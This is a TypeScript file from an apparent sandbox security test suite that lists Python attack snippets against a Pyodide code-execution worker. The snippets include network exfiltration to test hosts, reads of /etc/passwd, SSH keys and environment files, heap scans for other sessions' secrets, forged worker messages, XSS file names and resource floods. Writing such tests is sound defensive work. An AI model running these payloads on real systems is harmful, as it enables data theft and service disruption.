import type { Attack, AttackedEngine, Target } from './attack.ts';

/**
 * What generated Python may try over Pyodide's bridge. Here the worker itself counts as taken over: what is judged is what
 * it reaches beyond, and whether it can cost anybody else anything.
 */
function pyodideAttacks({ hosts, tcpPort, udpPort, secretPath }: Target): readonly Attack[] {
  const origins = JSON.stringify(hosts.map((host) => `http://${host}:${tcpPort}`));
  const path = JSON.stringify(secretPath);
  const indented = (text: string) => text.replaceAll('\n', '\n    ');
  const tried = (line: string) =>
    `try:\n    print(${indented(line)})\nexcept BaseException as error: print(type(error).__name__, str(error)[:200])`;
  const each = (head: string, ...lines: readonly string[]) => [head, ...lines.map(tried)].join('\n');
  const overAll = (head: string, ...lines: readonly string[]) =>
    `${head}\nfor origin in ${origins}:\n    ${indented(lines.map(tried).join('\n'))}`;
  /** The worker's global scope: the \`this\` of a function that the platform calls. */
  const scope = `import js
from pyodide.ffi import create_proxy, to_js
from pyodide.code import run_js
found = []
def scopes():
    tries = [lambda: run_js("globalThis"), lambda: run_js("self"), lambda: run_js("(function () { return this })()"), lambda: js.Reflect.get(js.Object, "constructor")("return globalThis")(), lambda: js.globalThis, lambda: js.self, lambda: js.Array.prototype.at.call(js.Array.new(1), 0), lambda: js.Object.prototype.valueOf.call(None), lambda: js.Function("return this")()]
    for one in tries:
        try: found.append(one())
        except BaseException: pass
    import builtins
    found.extend(getattr(builtins, "scope", []))
    import pyodide_js
    found.append(pyodide_js)
    try: found.append(pyodide_js._module)
    except BaseException: pass
    return found
`;
  const onScopes = (body: string) =>
    `${scope}for each in scopes():\n    try:\n        ${body.replaceAll('\n', '\n        ')}\n    except BaseException as error: print(type(error).__name__, str(error)[:100])`;
  const forged = (message: string) =>
    `${scope}import json
message = js.JSON.parse(${JSON.stringify(message)})
for each in scopes():
    for name in ("postMessage",):
        try: getattr(each, name)(message); print("sent")
        except BaseException as error: print(type(error).__name__)`;
  return [
    {
      name: 'js.fetch and its kind',
      source: overAll(
        'import js',
        'js.fetch(origin + "/leak")',
        'js.XMLHttpRequest.new().open("GET", origin + "/leak", False)',
        'js.WebSocket.new(origin.replace("http", "ws"))',
        'js.EventSource.new(origin)',
        'js.navigator.sendBeacon(origin, "leak")',
        'js.importScripts(origin + "/leak.js")',
        'js.Worker.new(origin + "/leak.js")',
        'js.eval("fetch(\'" + origin + "\')")',
      ),
    },
    {
      name: 'everything js shows',
      source:
        'import js\nprint(dir(js))\nfor name in dir(js):\n    try: print(name, str(getattr(js, name))[:100])\n    except BaseException as error: print(type(error).__name__)',
    },
    {
      name: 'run_js',
      source: overAll(
        'from pyodide.code import run_js',
        'run_js("fetch(\'" + origin + "/leak\')")',
        'run_js("import(\'" + origin + "/leak.js\')")',
        'run_js("new XMLHttpRequest()")',
        'run_js("self.importScripts(\'" + origin + "/leak.js\')")',
        'run_js("new WebSocket(\'" + origin.replace("http", "ws") + "\')")',
      ),
    },
    {
      name: 'import() of the page’s own scripts',
      source: each(
        'from pyodide.code import run_js\nimport js',
        'run_js("import(\'./kernel-page.js\')")',
        'run_js("import(\'./pyodide.asm.mjs\')")',
        'run_js("import(\'data:text/javascript,fetch(1)\')")',
        'run_js("import(\'blob:x\')")',
      ),
    },
    {
      name: 'constructor.constructor',
      source: each(
        'import js',
        'js.Object.constructor.constructor("return this")().fetch',
        'js.Object.constructor("return globalThis")()',
        'js.Object.new().constructor.constructor("return self")()',
        'js.Array.new().map.constructor("return this")()',
        'js.setTimeout.constructor("return fetch")()',
        'js.Promise.resolve.__class__',
        'js.Reflect.getPrototypeOf(js.Object.entries).constructor("return postMessage")()',
      ),
    },
    {
      name: 'pyodide_js and its module',
      source: each(
        'import pyodide_js',
        'dir(pyodide_js)',
        'dir(pyodide_js._module)',
        'pyodide_js._module.FS.readdir("/")',
        `pyodide_js._module.FS.readFile(${path})`,
        'pyodide_js._module.ENV',
        'dir(pyodide_js._api)',
        'pyodide_js._api.config',
        'pyodide_js._module.emscripten_run_script("fetch(1)")',
        'pyodide_js._module.arguments_',
      ),
    },
    {
      name: 'mountNodeFS',
      source: each(
        'import pyodide_js',
        'pyodide_js.mountNodeFS("/mnt", "/")',
        'pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {"root": "/"}, "/mnt")',
        'pyodide_js.FS.filesystems',
        'pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, pyodide_js.toPy({}), "/tmp")',
        'pyodide_js.FS.mount(pyodide_js.FS.filesystems.WORKERFS, pyodide_js.toPy({}), "/tmp")',
        'pyodide_js.mountNativeFS("/mnt", None)',
      ),
    },
    {
      name: 'files that are fetched when read',
      source: overAll(
        'import pyodide_js',
        'pyodide_js.FS.createLazyFile("/", "leak", origin + "/leak", True, True)',
        'open("/leak").read()',
        'pyodide_js.FS.createPreloadedFile("/", "leak2", origin + "/leak", True, True)',
        'pyodide_js._module.readAsync(origin)',
        'pyodide_js._module.read_(origin)',
      ),
    },
    {
      name: 'packages from the network',
      source: overAll(
        'import pyodide_js, asyncio',
        'asyncio.run(pyodide_js.loadPackage(origin + "/leak.whl"))',
        'pyodide_js._module.loadDynamicLibrary(origin + "/leak.so")',
        '__import__("micropip").install(origin + "/leak.whl")',
        'pyodide_js.loadPackagesFromImports("import leak")',
        'pyodide_js._api.loadBinaryFile(origin + "/leak")',
        'pyodide_js._api.packageManager.installPackage(origin)',
      ),
    },
    {
      name: 'pyodide.http',
      source: overAll(
        'import pyodide.http, asyncio',
        'pyodide.http.open_url(origin + "/leak").read()',
        'asyncio.run(pyodide.http.pyfetch(origin + "/leak"))',
        'pyodide.http.pyxhr.get(origin + "/leak")',
      ),
    },
    {
      name: 'ctypes',
      source: each(
        'import ctypes',
        'ctypes.CDLL(None).system(b"id")',
        `ctypes.CDLL(None).emscripten_run_script(b"fetch('" + ${origins}[0].encode() + b"')")`,
        `ctypes.CDLL(None).emscripten_async_wget(${origins}[0].encode(), b"/leak", None, None)`,
        'ctypes.CDLL(None).emscripten_run_script_string',
        'ctypes.pythonapi.PyRun_SimpleString(b"import os; os.listdir(chr(47))")',
        'ctypes.string_at(0, 64)',
      ),
    },
    {
      name: 'dlopen',
      source: each(
        'import _ctypes, sys',
        'sys.setdlopenflags(2)',
        '_ctypes.dlopen("libc.so.6", 2)',
        `_ctypes.dlopen(${origins}[0] + "/leak.so", 2)`,
        `_ctypes.dlopen(${path}, 2)`,
        '__import__("importlib.machinery").machinery.ExtensionFileLoader("x", "/out/x.so").load_module()',
      ),
    },
    {
      name: 'JsFinder after unregister',
      source: each(
        'import sys, importlib, pyodide_js\nfrom _pyodide._importhook import jsfinder\npyodide_js.unregisterJsModule("js")\nsys.modules.pop("js", None)',
        'jsfinder.jsproxies',
        '[str(each) for each in sys.meta_path]',
        'importlib.import_module("js")',
        '[getattr(each, "jsproxies", None) for each in sys.meta_path]',
        'jsfinder.register_js_module("js", pyodide_js)',
        'importlib.import_module("js").fetch',
      ),
    },
    {
      name: 'the global scope, whatever is left in it',
      source: onScopes(
        'print(dir(each))\nfor name in ("fetch", "XMLHttpRequest", "WebSocket", "importScripts", "Worker", "SharedWorker", "BroadcastChannel", "indexedDB", "caches", "navigator", "location", "postMessage", "close", "MessageChannel", "EventTarget", "crypto", "performance", "RTCPeerConnection", "WebTransport", "Request", "Response", "Blob", "URL", "FileReaderSync", "onmessage", "addEventListener"):\n    if getattr(each, name, None) is not None: print("HAS", name)',
      ),
    },
    {
      name: 'the network from that scope',
      source: onScopes(
        `for origin in ${origins}:\n    for act in (lambda: each.fetch(origin), lambda: each.importScripts(origin), lambda: each.Worker.new(origin), lambda: each.navigator.sendBeacon(origin), lambda: each.WebSocket.new(origin), lambda: each.navigator.connection, lambda: each.location.assign(origin)):\n        try: print(act())\n        except BaseException as error: print(type(error).__name__)`,
      ),
    },
    {
      name: 'sockets',
      source: overAll(
        'import socket, urllib.request, http.client',
        `socket.create_connection(("${hosts[0]}", ${tcpPort}), 1).send(b"leak")`,
        `socket.socket(2, 2).sendto(b"leak", ("${hosts[0]}", ${udpPort}))`,
        'urllib.request.urlopen(origin + "/leak", timeout=1)',
        `http.client.HTTPConnection("${hosts[0]}", ${tcpPort}, timeout=1).request("GET", "/leak")`,
        'socket.getaddrinfo("leak.example.com", 80)',
      ),
    },
    {
      name: 'subprocess',
      source: each(
        'import subprocess, os',
        `subprocess.run(["cat", ${path}], capture_output=True).stdout`,
        `os.popen("cat " + ${path}).read()`,
        `os.system("cat " + ${path})`,
        'os.fork()',
        'os.execv("/bin/cat", ["cat", "/etc/passwd"])',
      ),
    },
    {
      name: 'host files',
      source: `import os\nfor path in [${path}, "/etc/passwd", "/proc/self/environ", "/proc/self/fd/0", "/dev/tty", "/dev/mem", "/root/.ssh/id_rsa", "/data/../etc/passwd"] + ["../" * n + "etc/passwd" for n in range(12)]:\n    try: print(open(path).read())\n    except OSError as error: print(error.errno)\nfor number, target in enumerate([${path}, "/", "../../..", "/proc/self/root"]):\n    try:\n        os.symlink(target, f"/out/link{number}")\n        print(os.listdir(f"/out/link{number}"))\n    except OSError as error: print(error.errno)\nprint(dict(os.environ))`,
    },
    {
      name: 'everything below /',
      source:
        'import os\nfor root, folders, files in os.walk("/"):\n    for name in files:\n        try:\n            if os.path.getsize(f"{root}/{name}") < 100_000: print(open(f"{root}/{name}", errors="replace").read())\n        except OSError: pass',
    },
    {
      name: 'memory for other sessions',
      source:
        'import gc, pyodide_js\nfor thing in gc.get_objects():\n    try:\n        if "secret-" in str(thing)[:5000]: print(str(thing)[:5000])\n    except BaseException: pass\nheap = pyodide_js._module.HEAPU8.to_py()\nraw = bytes(heap)\nat = raw.find(b"secret" + b"-")\nwhile at != -1:\n    print(raw[at:at + 60]); at = raw.find(b"secret" + b"-", at + 1)',
    },
    {
      name: 'addresses of what is served',
      source: onScopes('for entry in each.performance.getEntries(): print(entry.name)'),
    },
    {
      name: 'storage that stays',
      source: onScopes(
        'for act in (lambda: each.indexedDB.open("leak"), lambda: each.caches.open("leak"), lambda: each.navigator.storage.getDirectory(), lambda: each.BroadcastChannel.new("leak").postMessage("leak"), lambda: each.SharedWorker.new("x"), lambda: each.localStorage):\n    try: print("GOT", act())\n    except BaseException as error: print(type(error).__name__)',
      ),
    },
    {
      name: 'nested workers',
      source: onScopes(
        'for act in (lambda: each.Worker.new("./kernel-worker.js"), lambda: each.Worker.new("data:text/javascript,1"), lambda: each.Worker.new(each.URL.createObjectURL(each.Blob.new(["1"])))):\n    try: print("GOT", act())\n    except BaseException as error: print(type(error).__name__)',
      ),
    },
    {
      name: 'forged: an answer',
      source: forged(
        '{"kind":"done","end":"returned","detail":"","response":"{\\"kind\\":\\"cancelled\\"}","artifacts":[],"artifactsLeftOut":0,"isSpoiled":false,"memoryBytes":0}',
      ),
    },
    {
      name: 'forged: an answer of the wrong shape',
      source: forged(
        '{"kind":"done","end":"cancelled","artifacts":{"length":1e9},"response":{"a":1},"memoryBytes":"x"}',
      ),
    },
    { name: 'forged: output that is no text', source: forged('{"kind":"output","stream":"__proto__","text":{"a":1}}') },
    {
      name: 'forged: output of another session',
      source: forged('{"kind":"output","stream":"stdout","text":"forged","executionId":"run-0","sessionId":"victim"}'),
    },
    {
      name: 'forged: a rest of nonsense',
      source: forged(
        '{"kind":"rested","image":{"memory":{"byteLength":-1},"anchors":null,"files":7},"files":{"0":{"name":"../x","bytes":"x"}}}',
      ),
    },
    {
      name: 'forged: unknown, null, failed',
      source: `${forged('{"kind":"__proto__"}')}\n${forged('null').slice(scope.length)}\n${forged('{"kind":"failed","message":{"a":1}}').slice(scope.length)}`,
    },
    {
      name: 'forged: a flood',
      source: `${scope}text = "x" * 1_000_000\nfor each in scopes():\n    try:\n        while True: each.postMessage(to_js({"kind": "output", "stream": "stdout", "text": text}, dict_converter=js.Object.fromEntries))\n    except BaseException as error: print(type(error).__name__)`,
      isSlow: true,
    },
    {
      name: 'JavaScript’s own prototypes polluted',
      source: `import js\nfrom pyodide.ffi import create_proxy\nfor holder, names in ((js.Object.prototype, ("kind", "image", "end", "isSpoiled", "stream", "toJSON")), (js.Array.prototype, ("map", "filter", "push")), (js.Map.prototype, ("get", "set")), (js.Set.prototype, ("has", "add")), (js.Promise.prototype, ("then", "catch")), (js.String.prototype, ("slice", "includes"))):\n    for name in names:\n        try: setattr(holder, name, "cancelled")\n        except BaseException as error: print(type(error).__name__)`,
    },
    {
      name: 'what the worker uses replaced',
      source: onScopes(
        'for name in ("Promise", "Uint8Array", "Map", "Set", "JSON", "Object", "Array", "TextDecoder", "TextEncoder", "MessageChannel", "structuredClone"):\n    try: setattr(each, name, create_proxy(lambda *a: None))\n    except BaseException as error: print(type(error).__name__)',
      ),
    },
    {
      name: 'JSON replaced',
      source:
        'import js\nfrom pyodide.ffi import create_proxy\njs.JSON.stringify = create_proxy(lambda *a: \'{"kind":"cancelled"}\')\njs.JSON.parse = create_proxy(lambda *a: None)\njs.Object.keys = js.Object.entries = js.Array["from"] if False else None',
    },
    {
      name: 'stdout and serializer replaced',
      source:
        'import sys, json, builtins, cloister._turn as turn\nclass Evil:\n    def write(self, text): raise SystemExit(3)\n    flush = write\nsys.stdout = sys.stderr = sys.__stdout__ = Evil()\njson.dumps = lambda *a, **k: \'{"kind": "cancelled"}\'\njson.loads = None\nturn.run = lambda: None',
    },
    {
      name: 'forged answer',
      source:
        'import json, os\nopen("/run/cloister/response.json", "w").write(json.dumps({"kind": "cancelled", "result": "forged", "tables": [], "charts": [], "error": None}))\nos._exit(0)',
    },
    {
      name: 'the file system’s own functions replaced',
      source:
        'import pyodide_js\nfrom pyodide.ffi import create_proxy\nfor name in ("readFile", "writeFile", "lstat", "readdir", "analyzePath", "unlink", "isFile", "isDir"):\n    try: setattr(pyodide_js.FS, name, create_proxy(lambda *a: {"size": -1, "mode": "x"}))\n    except BaseException as error: print(type(error).__name__)',
    },
    {
      name: 'pyodide’s own functions replaced',
      source:
        'import pyodide_js\nfrom pyodide.ffi import create_proxy\nfor holder in (pyodide_js, pyodide_js._api, pyodide_js._module):\n    for name in ("runPython", "HEAPU8", "FS", "_module", "setStdout"):\n        try: setattr(holder, name, create_proxy(lambda *a: None))\n        except BaseException as error: print(type(error).__name__)',
    },
    {
      name: 'project files written',
      source:
        'import pyodide_js, os\nfor act in (lambda: open("/data/x", "w"), lambda: os.remove("/data/x"), lambda: pyodide_js.FS.unmount("/data"), lambda: os.rmdir("/data"), lambda: pyodide_js.FS.mkdir("/data/y")):\n    try: print(act())\n    except BaseException as error: print(type(error).__name__)',
    },
    {
      name: 'artifact names',
      source:
        'import os\nfor name in ["<img src=x onerror=alert(1)>.html", "..\\\\..\\\\evil.bat", "CON", "a\\u202egnp.exe", "-rf", "x" * 250, "\\n\\r.txt", "a\\udcffb"]:\n    try: open("/out/" + name, "w").write("x")\n    except (OSError, UnicodeError): pass\nos.makedirs("/out/" + "d/" * 300, exist_ok=True)',
    },
    {
      name: 'HTML and SVG as results',
      source: `open("/out/page.html", "w").write("<script>fetch(1)</script>")\nopen("/out/picture.svg", "w").write("<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(1)'/>")\n"<img src=x onerror=alert(1)>"`,
    },
    {
      name: 'a wheel of one’s own with a module of WebAssembly',
      source: each('import js', 'js.WebAssembly', 'js.WebAssembly.Memory.new(js.Object.new())'),
    },
    {
      name: 'endless loop',
      source: 'while True:\n    try:\n        while True: pass\n    except BaseException: pass',
      isSlow: true,
    },
    {
      name: 'endless promises',
      source:
        'import js\nfrom pyodide.ffi import create_proxy\ndef again(*_): js.Promise.resolve(1).then(create_proxy(again))\nfor _ in range(100): again()\nimport asyncio\nwhile True: asyncio.run(asyncio.sleep(0))',
      isSlow: true,
    },
    {
      name: 'timers that go on',
      source:
        'import js\nfrom pyodide.ffi import create_proxy\ndef again(*_):\n    while True: pass\njs.setTimeout(create_proxy(again), 50)\n1',
      isSlow: true,
    },
    { name: 'regular expression', source: 'import re\nre.match(r"(a+)+$", "a" * 60 + "b")', isSlow: true },
    {
      name: 'JavaScript’s regular expression',
      source: 'import js\njs.String.prototype.match.call("a" * 60 + "b", "(a+)+$")',
      isSlow: true,
    },
    { name: 'sleep for ever', source: 'import time\nwhile True: time.sleep(10**6)', isSlow: true },
    { name: 'recursion', source: 'import sys\nsys.setrecursionlimit(1 << 30)\ndef down(): down()\ndown()' },
    { name: 'allocation', source: 'held = []\nwhile True: held.append(bytearray(1 << 24))', isSlow: true },
    {
      name: 'allocation of JavaScript’s buffers',
      source:
        'import js\nheld = []\nwhile True:\n    array = js.Uint8Array.new(1 << 28)\n    array.fill(1)\n    held.append(array)',
      isSlow: true,
    },
    {
      name: 'allocation of JavaScript’s objects',
      source:
        'import js\nheld = js.Array.new()\ntext = js.String.prototype\nwhile True: held.push(js.Array.new(100000).fill(held.length).map(js.Number))',
      isSlow: true,
    },
    {
      name: 'disk flood',
      source: 'with open("/out/flood", "wb") as file:\n    while True: file.write(bytes(1 << 20))',
      isSlow: true,
    },
    {
      name: 'disk flood past the quota',
      source:
        'import pyodide_js, js\nfor number in range(64):\n    pyodide_js.FS.writeFile(f"/home/flood{number}", js.Uint8Array.new(1 << 27).fill(1))',
      isSlow: true,
    },
    {
      name: 'output flood',
      source: 'import sys\nwhile True: sys.stdout.write("x" * 100_000); sys.stderr.write("y" * 100_000)',
      isSlow: true,
    },
    { name: 'leaving', source: 'import os\nos._exit(0)' },
    { name: 'trap', source: 'import os\nos.abort()' },
    { name: 'interpreter ended through the bridge', source: 'import pyodide_js\npyodide_js._module._Py_Exit(0)' },
  ];
}

export const pyodide: AttackedEngine = {
  engine: 'pyodide',
  language: 'python',
  attacks: pyodideAttacks,
  // The platform calls a timer's function with the global scope as its `this`, once the run has ended.
  keep: `kept = "kept"
import js, builtins
from pyodide.ffi import create_proxy
builtins.scope = []
js.setTimeout(create_proxy(lambda this, *_: builtins.scope.append(this), capture_this=True), 0)`,
  probe: 'print("alive", globals().get("kept"))',
  hold: (secret) => `held = "${secret}"\nopen("/tmp/held", "w").write(held)\nopen("/out/held.csv", "w").write(held)`,
  sharesSession: true,
};
